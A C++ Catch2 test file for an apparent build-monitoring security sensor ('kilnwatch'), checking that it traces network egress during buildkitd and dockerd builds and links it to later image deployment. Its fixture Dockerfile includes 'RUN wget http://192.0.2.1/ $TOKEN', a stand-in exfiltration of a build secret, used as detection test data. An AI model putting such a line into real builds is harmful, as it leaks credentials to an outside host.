// Builds of buildkitd, and of a dockerd that is spoken to over HTTP/2 without an upgrade, through
// the whole pipeline, and spoilt.
#include <algorithm>
#include <catch2/catch_test_macros.hpp>

#include "harness/buildkitd_engine.h"
#include "harness/spoilt.h"

namespace kilnwatch::test {
namespace {

const std::string kBase = "docker.io/library/alpine:3";
const std::string kConfig = "sha256:" + std::string(64, 'e');
const std::string kManifest = "sha256:" + std::string(64, 'd');
const std::string kName = "[2/3] RUN wget http://192.0.2.1/ kw-canary-arg";
const std::string kRun = "wget http://192.0.2.1/ $TOKEN";
const std::string kDockerfile =
    "FROM " + kBase + "\nARG TOKEN\nRUN wget http://192.0.2.1/ $TOKEN\nRUN true\n";
const std::string kEnd = "0\r\n\r\n";

std::string line(const std::string& key, const std::string& text) {
  return message("{\"" + key + "\":\"" + text + "\"}");
}

Events merged(const std::vector<Events>& all) {
  Events out;
  for (const auto& events : all) out.insert(out.end(), events.begin(), events.end());
  std::stable_sort(out.begin(), out.end(), [](const auto& a, const auto& b) {
    return domain::time_of(a) < domain::time_of(b);
  });
  return out;
}

// From 100 to 2000.
void build(BuildkitdEngine& engine, const std::string& dockerfile = kDockerfile) {
  engine.ask(1, 100, "evil:1", dockerfile);
  engine.graph(1, 300, kBase, {kName, "[3/3] RUN true"});
  engine.step({1, kName, kRun, 'a', "192.0.2.1", 400});
  engine.tell(1, 950, Status().log(kName, BuildKitEngine::wall(700), "kw-canary-output"));
  engine.step({1, "[3/3] RUN true", "true", 'b', "", 1200});
  engine.done(1, 2000, kConfig, kManifest);
}

// On the host: pushed from there, and pulled by docker.
Events main_chain() {
  BuildkitdEngine engine;
  build(engine);
  BuildKitEngine docker;
  docker.call(11, 2300, "/v1.41/images/create?fromImage=registry.example/evil&tag=1",
              kChunkedOk + line("status", "Digest: " + kManifest) +
                  line("status", "Status: Downloaded newer image for registry.example/evil:1") +
                  kEnd);
  docker.deploy(12, 2600, "registry.example/evil:1", 'c');
  return merged({engine.events(), docker.events()});
}

// `docker buildx build --load` with a builder of the driver docker-container.
Events loaded(const std::string& answer, const std::string& image) {
  BuildkitdEngine engine('9');
  build(engine);
  BuildKitEngine docker;
  docker.call(11, 2300, "/v1.41/images/load?quiet=1", kChunkedOk + answer + kEnd);
  docker.deploy(12, 2600, image, 'c');
  return merged({engine.events(), docker.events()});
}
Events loaded_by_id() {
  return loaded(line("stream", "Loaded image ID: " + kConfig + "\\n"), kConfig);
}
Events loaded_by_name() { return loaded(line("stream", "Loaded image: evil:1\\n"), "evil:1"); }

// The same line by two engines at the same time.
Events beside_docker() {
  BuildkitdEngine engine;
  build(engine, {});
  BuildKitEngine docker;
  docker.request(11, 110, "good:1");
  const std::string name = "[2/2] RUN wget http://192.0.2.1/ $TOKEN";
  docker.graph(11, 310, kBase, {name});
  docker.step({11, name, kRun, 'c', "192.0.2.1", 405});
  docker.end(11, 2000, "sha256:" + std::string(64, 'f'));
  // Of docker's own store: another image has this name there.
  docker.deploy(12, 2600, "evil:1", 'd');
  return merged({engine.events(), docker.events()});
}

Events failing() {
  BuildkitdEngine engine;
  engine.ask(1, 100, "fails:1", kDockerfile);
  engine.graph(1, 300, kBase, {kName});
  engine.step({1, kName, kRun, 'a', "192.0.2.1", 400, 400, {}, "exit code: 1"});
  engine.done(1, 1000, {});
  return engine.events();
}

// dockerd, asked without an upgrade (docker 29.2).
Events known_before() {
  auto engine = BuildkitdEngine::docker();
  build(engine);
  engine.deploy(12, 2600, "evil:1", 'c');
  return engine.events();
}

const Scenes kAll = {{"main chain", main_chain},
                     {"loaded by id", loaded_by_id},
                     {"loaded by name", loaded_by_name},
                     {"beside docker", beside_docker},
                     {"fails", failing},
                     {"prior knowledge", known_before}};

void check_build(const v1::Build& build, v1::Engine engine) {
  CHECK(build.engine() == engine);
  CHECK(build.client().uid() == 1001);
  CHECK(build.client().exe() == "/usr/bin/buildctl");
  REQUIRE(build.request().base_images_size() >= 1);
  CHECK(build.request().tags(0) == "evil:1");
  CHECK(build.request().build_arg_names(0) == "TOKEN");
}

void check_step(const v1::Alert& alert) {
  const auto& step = alert.step();
  CHECK(step.attribution() == v1::ATTRIBUTION_EXACT);
  CHECK(step.number() == 2);
  CHECK(step.total() == 3);
  CHECK(step.instruction() == "RUN wget http://192.0.2.1/ $TOKEN");
  CHECK(step.container_id() == std::string(25, 'a'));
  CHECK(alert.connection().destination().ip() == "192.0.2.1");
}

}  // namespace

TEST_CASE("buildkitd: the chain from request to the deployment of what was pushed and pulled") {
  const auto alerts = alerts_of(main_chain());
  INFO(text_of(alerts));
  REQUIRE(alerts.size() == 3);
  check_build(alerts[0].build(), v1::ENGINE_BUILDKITD);
  CHECK(alerts[0].build().container_id().empty());
  CHECK(alerts[0].build().request().base_images(0) == kBase);
  check_step(alerts[1]);
  CHECK(alerts[2].rule() == "image-deploy");
  CHECK(alerts[2].build().id() == alerts[0].build().id());
  CHECK(alerts[2].image().id() == kConfig);
  CHECK(alerts[2].image().tags(0) == "registry.example/evil:1");
  CHECK(alerts[2].connection().destination().ip() == "192.0.2.1");
}

TEST_CASE("buildkitd: in a container, its image loaded into docker by its id") {
  const auto alerts = alerts_of(loaded_by_id());
  INFO(text_of(alerts));
  REQUIRE(alerts.size() == 4);
  check_build(alerts[0].build(), v1::ENGINE_BUILDKITD);
  CHECK(alerts[0].build().container_id() == std::string(64, '9'));
  CHECK(alerts[0].build().client().container_id() == std::string(64, '9'));
  check_step(alerts[1]);
  CHECK(alerts[2].rule() == "image-import");
  CHECK(has_reason(alerts[2], "built-here"));
  CHECK(alerts[3].rule() == "image-deploy");
  CHECK(alerts[3].build().id() == alerts[0].build().id());
  CHECK(has_reason(alerts[3], "nested-engine"));
  CHECK(has_reason(alerts[3], "deploy-soon-after-build"));
  CHECK_FALSE(has_reason(alerts[3], "image-imported"));
  CHECK(alerts[3].severity() == v1::SEVERITY_CRITICAL);  // what it fetched is executed
  CHECK(alerts[3].import().id() == alerts[2].import().id());
}

TEST_CASE("buildkitd: a load that tells no more than a name is no link, but a candidate") {
  const auto alerts = alerts_of(loaded_by_name());
  INFO(text_of(alerts));
  REQUIRE(alerts.size() == 4);
  CHECK(alerts[2].rule() == "image-import");
  CHECK(has_reason(alerts[2], "candidate"));
  CHECK(alerts[3].rule() == "image-deploy");
  CHECK_FALSE(alerts[3].has_build());
  CHECK(has_reason(alerts[3], "candidate"));
}

TEST_CASE("buildkitd: beside dockerd each has its own steps, and its own names of images") {
  const auto alerts = alerts_of(beside_docker());
  INFO(text_of(alerts));
  const auto egress = of_rule(alerts, "build-egress");
  REQUIRE(egress.size() == 2);
  for (const auto& alert : egress) {
    const bool first = alert.build().request().tags(0) == "evil:1";
    CHECK(alert.step().attribution() == v1::ATTRIBUTION_EXACT);
    CHECK(alert.step().container_id() == std::string(25, first ? 'a' : 'c'));
    CHECK(alert.build().engine() == (first ? v1::ENGINE_BUILDKITD : v1::ENGINE_DOCKER_BUILDKIT));
  }
  CHECK(of_rule(alerts, "image-deploy").empty());
  CHECK(of_rule(alerts, "sensor-blind").empty());
}

TEST_CASE("buildkitd: a build that fails") {
  const auto alerts = alerts_of(failing());
  INFO(text_of(alerts));
  REQUIRE(of_rule(alerts, "build-failed").size() == 1);
  CHECK(of_rule(alerts, "build-failed")[0].step().number() == 2);
  CHECK(of_rule(alerts, "build-failed")[0].build().status() == v1::BUILD_STATUS_FAILED);
}

TEST_CASE("buildkitd: dockerd over HTTP/2 without an upgrade") {
  const auto alerts = alerts_of(known_before());
  INFO(text_of(alerts));
  REQUIRE(alerts.size() == 3);
  check_build(alerts[0].build(), v1::ENGINE_DOCKER_BUILDKIT);
  check_step(alerts[1]);
  CHECK(alerts[2].rule() == "image-deploy");
  CHECK(alerts[2].build().id() == alerts[0].build().id());
}

TEST_CASE("buildkitd: permuted within 50 ms the very same alerts") { same_in_any_order(kAll); }

TEST_CASE("buildkitd: with lost records never a wrong attribution, and what is missing is said") {
  never_wrong_with_losses(kAll);
}

TEST_CASE("buildkitd: from a late start never a wrong attribution") {
  never_wrong_from_late_starts(kAll, 20);
}

TEST_CASE("buildkitd: a recording gives the same alerts, and no canary") {
  same_from_recordings(kAll, no_canary);
}

}  // namespace kilnwatch::test
